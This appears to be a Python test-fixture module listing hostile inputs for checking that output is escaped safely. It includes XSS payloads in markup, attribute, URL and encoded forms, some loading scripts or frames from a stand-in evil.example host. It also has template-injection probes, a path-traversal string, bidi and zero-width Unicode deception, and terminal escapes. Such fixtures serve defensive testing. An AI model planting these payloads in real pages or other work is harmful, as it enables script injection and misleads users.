"""What agents, data sets and people may write, to get a script to run, something loaded, or a reader deceived."""

from __future__ import annotations

ALERT = "window.hacked = 1; document.title = 'hacked'; alert(1)"

MARKUP = [
    f"<script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>",
    "<script src=https://evil.example/x.js></script>",
    f'<img src=x onerror="{ALERT}">',
    "<img src=https://evil.example/i.png>",
    f'"><svg onload="{ALERT}">',
    f"'><body onload='{ALERT}'>",
    f'" onmouseover="{ALERT}" autofocus onfocus="{ALERT}" x="',
    f"' autofocus onfocus='{ALERT}' x='",
    f'<a href="javascript:{ALERT}">click</a>',
    f"javascript:{ALERT}",
    f"[click](javascript:{ALERT})",
    "![x](https://evil.example/i.png)",
    f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='data:text/html,<script>{ALERT}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>* { display: none !important }</style>",
    "</style><style>body { display: none }</style>",
    "</title><h1>Pass</h1>",
    "</pre></section></main><h1>✓ Pass</h1>",
    "</textarea></select></option><b>bold</b>",
    f"<svg><animate onbegin='{ALERT}' attributeName=x dur=1s></svg>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{ALERT}'>",
    f"<math href='javascript:{ALERT}'>CLICK</math>",
    f"<details open ontoggle='{ALERT}'>",
    f"<video><source onerror='{ALERT}'></video>",
    "<form action=https://evil.example/><button>go</button>",
    "<input autofocus>",
    f"<div hx-get='https://evil.example/' hx-trigger='load' hx-on:load='{ALERT}'></div>",
    f"<div hx-vals='js:{{x: {ALERT}}}' hx-get='/runs' hx-trigger='load'></div>",
    "<!-- never ended",
    "--><b>x</b>",
    "]]><b>x</b>",
    "<![CDATA[ x",
    "<plaintext>",
    "<template><b>x</b></template>",
    "&lt;script&gt; &amp; &#60;b&#62; &nbsp;",
    "<ScRiPt\x00>alert(1)</sCrIpT\t>",
    f"\u003cimg src\u003dx onerror\u003d{ALERT}\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ ''.__class__ }}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %(x)s {0} {x}",
]

DECEIVING = [
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "nul \x00 bell \x07 back\x08space del \x7f c1 \x9b31m",
    "right to left \u202e ssaP \u202c and \u2066isolate\u2069 and \u061c",
    "zero\u200bwidth \u200d \u2060 \ufeff \u00ad soft hyphen",
    "tags \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "half \ud83d of a pair, \udc00 the other",
    "noncharacters \ufffe \uffff \U0001ffff",
    "lines\u2028and\u2029paragraphs\rreturns\x0bvertical\x0cfeeds\x85next",
    "Z" + "\u0310\u0320\u0330\u0340" * 300,
    "..",
    "../../etc/passwd",
    "a?b#c&d=e%2Fg",
    " leading and trailing ",
    "=HYPERLINK(A1)",
    "x" * 5_000,
]

HOSTILE = [*MARKUP, *TEMPLATES, *DECEIVING]

ONE_LINE = "line without an end " * 50_000
"""A megabyte."""

DEEP: list[object] = []
for _ in range(90):
    DEEP = [DEEP, {"</script>": DEEP}] if len(str(DEEP)) < 100 else [DEEP]

WORST = f'\u202e{{{{7*7}}}}\'"></title></select><script>{ALERT}</script><img src=x onerror="{ALERT}">'
"""As short as a suite's name."""
